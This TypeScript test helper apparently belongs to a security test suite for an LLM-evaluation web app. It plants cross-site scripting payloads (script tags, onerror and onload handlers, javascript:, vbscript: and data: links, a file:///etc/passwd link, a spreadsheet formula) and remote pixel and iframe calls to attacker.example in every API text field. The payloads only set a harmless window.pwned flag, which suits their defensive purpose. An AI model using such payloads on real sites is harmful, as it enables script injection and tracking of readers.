import { createdDatasetSchema } from '#lib/api/datasets-schema.ts';
import { createdSchema, startedSchema } from '#lib/api/experiments-schema.ts';
import { SMALL } from '../api/open-api.ts';
import type { Client } from './stage.ts';

/** Sets a flag on the page if it runs. */
export const HTML = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>`;

/** Starts as a formula for spreadsheets, followed by Markdown as a manipulated model may write it. */
export const MARKDOWN = `=1+1 ${HTML}

<svg onload=window.pwned=1><a href="javascript:window.pwned=1">raw</a><iframe src="https://attacker.example/frame"></iframe>

[script](javascript:window.pwned=1) [coded](&#106;avascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)
[vb](vbscript:x) [file](file:///etc/passwd) [own](/settings) [good](https://example.com/) <javascript:window.pwned=1>

![remote](https://attacker.example/pixel.png?of=the-reader) ![inline](data:image/svg+xml,<svg onload=window.pwned=1>)

[named]: javascript:window.pwned=1
[named] <https://attacker.example/auto> www.attacker.example

| a | b |
| - | - |
| ${HTML} | [x](javascript:window.pwned=1) |

\`\`\`html
${HTML}
\`\`\`
`;

/** Ids and names of records that contain hostile text. */
export type Hostile = { experimentId: string; runId: string; datasetId: string; lessonId: string; promptName: string };

/** Stores hostile text in every field that accepts text, through a model response and through people. */
export async function storeHostileTexts({ owner, editor }: { owner: Client; editor: Client }): Promise<Hostile> {
  const make = async (path: string, body: unknown) => (await owner.read(createdSchema, 'POST', path, body)).id;
  const cases = [{ input: MARKDOWN, reference: HTML, tags: [HTML.slice(0, 60)], metadata: { [HTML]: HTML } }];
  const dataset = await owner.read(createdDatasetSchema, 'POST', '/api/v1/datasets', { name: HTML, cases });
  const experimentId = await make('/api/v1/experiments', {
    ...SMALL,
    name: `=1+1 ${HTML}`,
    generator: { provider: 'scripted', model: 'm', instructions: HTML },
    criteria: [{ name: 'says', description: HTML, evaluator: 'regex', config: { pattern: 'pwned' } }],
  });
  const started = await owner.read(startedSchema, 'POST', `/api/v1/experiments/${experimentId}/runs`, { cases });
  const runId = started.runIds[0] ?? '';
  await owner.waitForRun(runId, ['finished', 'failed']);
  const lesson = await editor.call('POST', '/api/v1/lessons', {
    kind: 'lesson',
    text: MARKDOWN.slice(0, 1_900),
    scope: { agent: HTML.slice(0, 100), tools: [HTML.slice(0, 100)] },
    source: { input: MARKDOWN },
  });
  const lessonId = String(/"id":"([^"]+)"/.exec(lesson.text)?.[1]);
  const promptName = 'hostile-prompt';
  const sent = [
    owner.call('POST', '/api/v1/prompts', { name: promptName, text: `${MARKDOWN} {{input}}`, note: HTML }),
    owner.call('POST', `/api/v1/runs/${runId}/notes`, { text: MARKDOWN }),
    owner.call('POST', `/api/v1/experiments/${experimentId}/notes`, { text: MARKDOWN }),
    owner.call('POST', `/api/v1/lessons/${lessonId}/comments`, { text: MARKDOWN }),
    owner.call('POST', '/api/v1/tokens', { name: HTML.slice(0, 80), scopes: ['runs:read'] }),
    owner.call('POST', '/api/v1/invitations', { role: 'viewer', label: HTML.slice(0, 80) }),
    owner.call('POST', '/api/v1/providers', { name: HTML.slice(0, 80), kind: 'openai', apiKey: 'k' }),
    owner.call('POST', '/api/v1/webhooks', { name: HTML.slice(0, 80), url: 'https://hooks.invalid/x' }),
    owner.call('POST', '/api/v1/webhooks/scripted/test', {}),
    owner.call('POST', '/api/v1/mcp-servers/scripted/test', {}),
    owner.call('POST', `/api/v1/providers/scripted/test?model=${encodeURIComponent(HTML.slice(0, 200))}`, {}),
  ];
  for (const { status, text } of await Promise.all(sent))
    if (status >= 500) throw new Error(`hostile words broke something: ${text}`);
  return { experimentId, runId, datasetId: dataset.id, lessonId, promptName };
}
